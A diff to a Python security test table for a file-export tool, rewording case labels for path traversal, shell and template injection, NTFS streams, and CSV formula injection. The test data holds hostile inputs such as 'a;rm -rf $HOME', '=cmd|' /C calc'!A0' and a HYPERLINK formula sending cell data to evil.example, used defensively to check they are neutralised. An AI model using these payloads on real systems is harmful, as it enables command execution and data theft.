@@ -31,13 +31,13 @@ KEYS: tuple[Case, ...] = (
 NAMES: tuple[Case, ...] = (
     survived("a path out of the folder", "../../etc/cron.d/x", "one name in the folder"),
     survived("an absolute path", "/etc/passwd", "one name in the folder"),
-    survived("a path of Windows", "..\\..\\x", "one name in the folder"),
+    survived("a Windows path", "..\\..\\x", "one name in the folder"),
     survived("a drive", "C:x", "one name in the folder"),
     survived("two dots", "..", "one name in the folder"),
     survived("a hidden file", ".bashrc", "no dot in front"),
-    survived("a device of Windows", "CON", "no device's name"),
-    survived("a device of Windows with an ending", "nul.txt", "no device's name"),
-    survived("an option of a command", "-rf", "a name"),
+    survived("a Windows device", "CON", "no device's name"),
+    survived("a Windows device with an ending", "nul.txt", "no device's name"),
+    survived("a command's option", "-rf", "a name"),
     survived("a shell's signs", "a;rm -rf $HOME `id` | x", "signs replaced"),
     survived("a template", "{0.__class__}{{7*7}}", "signs replaced"),
     survived("a stream of NTFS", "a:evil.exe", "signs replaced"),
@@ -62,7 +62,7 @@ TEMPLATES: tuple[Case, ...] = (
     refused("an attribute", "{key.__class__}", "no such column"),
     refused("an item", "{key[0]}", "no such column"),
     refused("a conversion", "{key!r}", "write plain names in braces"),
-    refused("a width of a thousand million", "{key:>1000000000}", "write plain names in braces"),
+    refused("a width of a billion", "{key:>1000000000}", "write plain names in braces"),
     refused("a place without a name", "{}", "write plain names in braces"),
     refused("a brace that is never closed", "{key", "--template"),
     refused("an unknown name", "{nothing}_{key}", "no such column"),
@@ -78,8 +78,8 @@ CELLS: tuple[Case, ...] = (
     survived("a program", "=cmd|' /C calc'!A0", "text"),
     survived("a program behind a plus", "+cmd|' /C calc'!A0", "text"),
     survived("a program behind a minus", "-2+3+cmd|' /C calc'!A0", "text"),
-    survived("a function of old", "@SUM(1+1)*cmd|' /C calc'!A0", "text"),
-    survived("a link that tells", '=HYPERLINK("http://evil.example/?"&A1,"x")', "text"),
+    survived("an old function", "@SUM(1+1)*cmd|' /C calc'!A0", "text"),
+    survived("a link that reports back", '=HYPERLINK("http://evil.example/?"&A1,"x")', "text"),
     survived("a tab in front", "\t=1+1", "text"),
     survived("a line end in front", "\r=1+1", "text"),
     survived("a new line in front", "\n=1+1", "text"),
@@ -94,13 +94,13 @@ CELLS: tuple[Case, ...] = (
 )
 
 AREAS = (
-    Area("Keys of the storage", "read, opened, looked up and told as a URL", KEYS),
+    Area("Keys of the storage", "read, opened, looked up and made into a URL", KEYS),
     Area(
         "Names of exported files",
-        "pictures of all these keys and of good ones are put into one folder: each is there once, under a name of its"
-        " own, and nothing outside of the folder has changed",
+        "pictures with all these keys and with valid ones are exported into one folder: each is there once, under its"
+        " own name, and nothing outside the folder has changed",
         NAMES,
     ),
-    Area("Templates of exported files' names", "with metadata that are hostile themselves", TEMPLATES),
-    Area("Cells of exported tables", "each as key, error, metadata and as a column's name, read back as CSV", CELLS),
+    Area("Templates of exported files' names", "with hostile metadata", TEMPLATES),
+    Area("Cells of exported tables", "each as a key, an error, metadata and a column's name, read back as CSV", CELLS),
 )
